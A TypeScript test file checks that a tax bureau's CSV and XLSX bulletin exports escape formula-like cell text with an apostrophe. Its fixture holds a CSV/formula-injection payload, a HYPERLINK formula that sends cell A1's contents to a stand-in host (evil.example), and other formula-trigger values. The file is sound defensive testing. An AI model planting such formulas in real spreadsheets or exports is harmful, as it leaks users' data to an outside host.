import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { bulletinCsv } from './bulletin-csv';
import { BulletinTable } from './bulletin-tables';
import { bulletinXlsx } from './bulletin-xlsx';
import { MonthlySnapshot } from './statistics.types';

/** An explanation text is typed by bureau staff: whatever they wrote lands in the export. */
const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"详见")';
const table: BulletinTable = {
  key: 'tasks',
  title: '情况说明',
  columns: [
    { header: '单位', format: 'text' },
    { header: '说明内容', format: 'text' },
    { header: '环比', format: 'change' },
  ],
  rows: [
    ['@广东省税务局', EVIL, -0.125],
    ['+深圳市税务局', '\t-1+1', 0.5],
  ],
  totalRows: [],
};

describe('bulletin exports', () => {
  it('issue 12 point 10: the CSV writes formula-like text as text and keeps signed figures numeric', () => {
    const records = parse(bulletinCsv(table).toString('utf8'), { bom: true }) as string[][];
    expect(records.slice(1)).toEqual([
      ["'@广东省税务局", `'${EVIL}`, '-12.5%'],
      ["'+深圳市税务局", "'\t-1+1", '+50.0%'],
    ]);
  });

  it('issue 12 point 10: the XLSX holds no cell a spreadsheet would run as a formula', async () => {
    const snapshot = { month: '2026-10', scope: { name: '广东省税务局' }, asOf: '2026-11-01T00:00:00Z' };
    const buf = await bulletinXlsx(snapshot as unknown as MonthlySnapshot, [table]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const values = wb.worksheets[0].getSheetValues().slice(2) as unknown[][];
    expect(values.map((r) => r.slice(1))).toEqual([
      ["'@广东省税务局", `'${EVIL}`, -0.125],
      ["'+深圳市税务局", "'\t-1+1", 0.5],
    ]);
  });
});
